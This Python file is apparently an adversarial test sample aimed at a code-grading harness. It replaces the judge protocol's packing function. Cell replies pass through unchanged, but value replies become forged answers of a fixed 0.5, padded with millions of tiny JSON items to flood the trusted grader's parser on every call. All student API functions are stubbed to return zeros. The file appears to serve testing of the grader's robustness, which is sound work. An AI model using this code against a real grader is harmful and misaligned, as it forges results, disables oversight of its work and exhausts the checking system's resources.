"""Replace the worker's reply writer so that every call is answered with a frame as large as
the protocol allows, filled with tiny JSON items (`{},{},...`) around a forged value: parsing it
would build millions of Python objects in the trusted grader, on every call.

category: resource
"""
import json
import struct
import sys

import numpy as np

API = "__API__".split(",")
_P = sys.modules["judge_protocol"]
_PACK = _P.pack
_LIMITS = _P.Limits()
_HEADER = min(getattr(_LIMITS, "max_header_bytes", _LIMITS.max_frame_bytes), _LIMITS.max_frame_bytes) - 4096


def _flood(message, blobs=()):
    if message.get("op") not in ("value", "raised", "missing"):
        return _PACK(message, blobs)          # cell replies stay honest, so the cell is kept
    forged = {"op": "value", "id": message.get("id"), "value": {"t": "float", "v": "0.5"},
              "args_after": {"t": "list", "v": []}, "warnings": []}
    head = json.dumps({"sizes": [], "m": forged}).encode()[:-2] + b',"pad":['
    header = head + b"{}," * ((_HEADER - len(head)) // 3) + b"{}]}}"
    return struct.pack("!4sQI", b"GRJ1", 4 + len(header), len(header)) + header


def _student(*args, **kwargs):
    return np.zeros(1)


for _name in API:
    globals()[_name] = _student
_P.pack = _flood
